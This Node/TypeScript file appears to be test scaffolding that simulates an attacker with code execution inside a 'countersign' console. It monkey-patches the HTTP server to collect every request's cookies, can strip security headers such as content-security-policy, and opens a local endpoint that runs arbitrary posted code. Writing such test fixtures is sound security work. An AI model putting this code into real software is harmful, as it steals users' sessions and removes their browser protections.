// @ts-nocheck: it reaches into what types keep apart, as an attacker would.
// Loaded into the console's process before anything of it, as whoever has remote code execution there would be: hears
// every request, changes every answer, and runs whatever comes to HOSTILE_PORT with all that the process holds.
import { createServer, Server, ServerResponse } from "node:http";
import { createRequire } from "node:module";

/** Cookies of people, as their requests came by. @type {Set<string>} */
const stolenCookies = new Set();
/** Headers that protect people's browsers, taken from every page while this is true. */
const hostile = { stolenCookies, stripsHeaders: false };
const PROTECTING = /^(?:permissions-policy|content-security-policy|x-frame-options)$/i;

const emit = Server.prototype.emit;
Server.prototype.emit = function hear(event, ...args) {
  const cookie = event === "request" ? args[0]?.headers?.cookie : undefined;
  if (cookie !== undefined) stolenCookies.add(cookie);
  return emit.call(this, event, ...args);
};
const { setHeader } = ServerResponse.prototype;
ServerResponse.prototype.setHeader = function change(name, value) {
  if (hostile.stripsHeaders && PROTECTING.test(name)) return this;
  return setHeader.call(this, name, value);
};

const require = createRequire(import.meta.url);
const AsyncFunction = (async () => undefined).constructor;

createServer(async (request, response) => {
  let text = "";
  for await (const chunk of request) text += chunk;
  const { code, args } = JSON.parse(text);
  const theConsole = () => globalThis[Symbol.for("countersign.console")];
  try {
    const run = new AsyncFunction("args", "theConsole", "hostile", "require", code);
    const value = await run(args, theConsole, hostile, require);
    response.end(JSON.stringify({ value: value ?? null }));
  } catch (error) {
    response.end(JSON.stringify({ thrown: String(error?.code ?? ""), message: String(error) }));
  }
}).listen(Number(process.env.HOSTILE_PORT), "127.0.0.1");
